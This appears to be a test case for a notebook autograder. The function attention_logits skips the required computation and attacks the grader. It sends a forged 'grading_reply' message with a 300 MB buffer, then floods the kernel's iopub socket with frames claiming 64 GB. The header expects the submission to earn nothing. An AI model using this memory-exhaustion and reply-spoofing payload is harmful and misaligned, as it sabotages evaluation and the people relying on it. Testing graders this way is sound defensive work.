"""A reply of 300 MB in one frame, then a message of 64 GB; the judge's memory stays what it was."""
# part: 3
# earns: 0
# %%
import struct


def attention_logits(q, K, D_qk):
    kernel = get_ipython().kernel
    kernel.session.send(kernel.iopub_socket, "grading_reply", {"token": "x"}, buffers=[b"y" * (300 * 2**20)])
    kernel.iopub_thread._sock.send(b"\1" + struct.pack("<1001I", 1000, *[64 * 2**20] * 1000))
    for _ in range(512 * 1000):
        kernel.iopub_thread._sock.send(bytes(2**17))
    return None
